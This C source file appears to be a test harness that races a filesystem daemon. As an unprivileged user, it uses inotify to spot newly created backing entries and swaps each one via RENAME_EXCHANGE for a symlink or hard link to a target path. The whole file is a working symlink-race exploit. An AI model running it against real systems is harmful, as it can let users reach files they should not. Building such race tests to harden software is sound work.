// An unprivileged user attacking the daemon through a backing directory they own (as
// under `allow_other`, where the daemon hands users their own backing entries). For a
// fixed time it watches the directory with inotify and, the moment the daemon creates
// an entry, swaps it (renameat2 RENAME_EXCHANGE) for a symlink to a target directory,
// a symlink to a target file, or a hard link to the target file; half the time it swaps
// back a moment later, so the daemon's next steps meet the real entry again.
//
//   swap_attacker UID GID BACKING_DIR TARGET_DIR TARGET_FILE SECONDS
//
// Drops to UID/GID first. Prints "swaps N" (exchanges that succeeded) at the end.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

// Decoys are planted ahead, so that a swap costs one renameat2() after the event.
struct decoy {
  char name[64];
  int ready;
};

static void plant(int dir_fd, struct decoy* d, unsigned kind, const char* target_dir,
                  const char* target_file) {
  snprintf(d->name, sizeof d->name, "x.decoy.%u.%ld", kind, random());
  int made = -1;
  switch (kind % 3) {
    case 0:
      made = symlinkat(target_dir, dir_fd, d->name);
      break;
    case 1:
      made = symlinkat(target_file, dir_fd, d->name);
      break;
    default:
      made = linkat(AT_FDCWD, target_file, dir_fd, d->name, 0);
      break;
  }
  d->ready = made == 0;
}

// Exchanges `name` with the decoy. Returns 1 on a swap.
static int swap_in(int dir_fd, const char* name, struct decoy* d, int swap_back) {
  if (!d->ready || renameat2(dir_fd, name, dir_fd, d->name, RENAME_EXCHANGE) != 0) return 0;
  if (swap_back) {
    // Swap back after a moment: the daemon's later steps then meet the real entry.
    struct timespec pause = {0, 20000};
    nanosleep(&pause, NULL);
    renameat2(dir_fd, name, dir_fd, d->name, RENAME_EXCHANGE);
  }
  return 1;
}

int main(int argc, char** argv) {
  if (argc != 7) {
    fprintf(stderr, "usage: %s UID GID BACKING_DIR TARGET_DIR TARGET_FILE SECONDS\n", argv[0]);
    return 2;
  }
  const uid_t uid = (uid_t)strtoul(argv[1], NULL, 10);
  const gid_t gid = (gid_t)strtoul(argv[2], NULL, 10);
  if (setgroups(0, NULL) != 0 || setgid(gid) != 0 || setuid(uid) != 0) {
    perror("dropping privileges");
    return 2;
  }
  const int dir_fd = open(argv[3], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  const int in_fd = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
  if (dir_fd < 0 || in_fd < 0 || inotify_add_watch(in_fd, argv[3], IN_CREATE | IN_MOVED_TO) < 0) {
    perror(argv[3]);
    return 2;
  }
  srandom((unsigned)getpid());
  const double end = now() + atof(argv[6]);
  unsigned long swaps = 0;
  unsigned kind = 0;
  struct decoy decoy;
  plant(dir_fd, &decoy, kind, argv[4], argv[5]);
  char buf[64 * (sizeof(struct inotify_event) + NAME_MAX + 1)];
  while (now() < end) {
    // Spinning, not sleeping in poll(): the window between the daemon's mkdirat() and
    // its next call is a few microseconds, shorter than a wake-up.
    const ssize_t n = read(in_fd, buf, sizeof buf);
    for (ssize_t off = 0; n > 0 && off < n;) {
      const struct inotify_event* ev = (const struct inotify_event*)(buf + off);
      off += (ssize_t)(sizeof *ev + ev->len);
      if (ev->len == 0 || strncmp(ev->name, "x.decoy.", 8) == 0) continue;
      swaps += (unsigned long)swap_in(dir_fd, ev->name, &decoy, (kind & 4) != 0);
      plant(dir_fd, &decoy, ++kind, argv[4], argv[5]);
    }
  }
  printf("swaps %lu\n", swaps);
  return 0;
}
